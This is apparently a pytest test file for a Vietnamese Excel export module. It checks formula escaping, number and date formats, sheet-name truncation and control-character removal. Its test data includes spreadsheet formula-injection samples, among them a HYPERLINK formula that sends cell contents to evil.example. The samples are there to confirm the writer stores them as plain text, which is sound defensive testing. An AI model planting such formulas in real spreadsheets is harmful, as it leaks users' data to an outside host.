"""The shared Excel writer (thidua.core.excel): text stays text, numbers and dates stay numbers
and dates, sheet names are whole words and unique, the header is frozen and filtered."""
from __future__ import annotations

import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from thidua.core.excel import Book, Column, sheet_title

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Xem")', "+84 912 345 678", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "＝1+1"]


def _read(book: Book):
    return load_workbook(io.BytesIO(book.to_bytes()))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_looks_like_a_formula_is_written_as_the_text_typed(text):
    book = Book()
    book.sheet("Danh sách", [Column("Họ và tên")]).append([text])
    cell = _read(book).active["A2"]
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


def test_numbers_dates_and_years_are_numbers_and_dates_with_vietnamese_formats():
    book = Book()
    sheet = book.sheet("Số liệu", [Column("Số tiền (đồng)", "money"), Column("Tỷ lệ (%)", "number"),
                                   Column("Ngày", "date"), Column("Năm", "year"), Column("Lúc", "date")],
                       heading="BẢNG SỐ LIỆU")
    aware = datetime.datetime(2025, 12, 31, 20, 0, tzinfo=datetime.timezone.utc)
    sheet.append([Decimal("3450000000"), Decimal("97.50"), datetime.date(2025, 1, 2), 2025, aware])
    ws = _read(book).active
    money, rate, day, year, moment = ws[4]
    assert (money.value, money.number_format) == (3_450_000_000, "#,##0")
    assert (rate.value, rate.number_format) == (97.5, "#,##0.##")
    assert (day.value, day.number_format) == (datetime.datetime(2025, 1, 2), "dd/mm/yyyy")
    assert (year.value, year.number_format) == (2025, "0")
    local = aware.astimezone(zoneinfo.ZoneInfo("Asia/Ho_Chi_Minh")).replace(tzinfo=None)
    assert moment.value == local and moment.value.day == 1  # 20:00 UTC is the next morning in Hà Nội
    assert ws.freeze_panes == "A4" and ws.auto_filter.ref == "A3:E4"
    assert ws["A1"].value == "BẢNG SỐ LIỆU"


def test_a_total_row_stays_outside_the_filter():
    book = Book()
    sheet = book.sheet("Thu", [Column("Khoản"), Column("Số tiền (đồng)", "money")])
    sheet.append(["Ngân sách", 100])
    sheet.append(["Tổng cộng", 100], bold=True, data=False)
    ws = _read(book).active
    assert ws.auto_filter.ref == "A1:B2" and ws["A3"].font.b


def test_sheet_names_are_cut_at_a_word_and_made_unique():
    used: set[str] = set()
    first = sheet_title("Danh hiệu thi đua, hình thức khen thưởng theo năm", used)
    second = sheet_title("Danh hiệu thi đua, hình thức khen thưởng theo cấp", used)
    assert first == "Danh hiệu thi đua, hình thức"
    assert second == "Danh hiệu thi đua, hình (2)"
    assert sheet_title("Quỹ: năm 2025 [dự kiến]/thu?", used) == "Quỹ- năm 2025 -dự kiến--thu-"
    assert sheet_title("THU", {"Thu"}) == "THU (2)"  # Excel compares sheet names without case
    assert all(len(name) <= 31 for name in used)


def test_control_characters_a_workbook_cannot_hold_are_dropped():
    book = Book()
    book.sheet("A", [Column("Ghi chú")]).append(["Nguyễn\x00 Văn\x1b An"])
    assert _read(book).active["A2"].value == "Nguyễn Văn An"
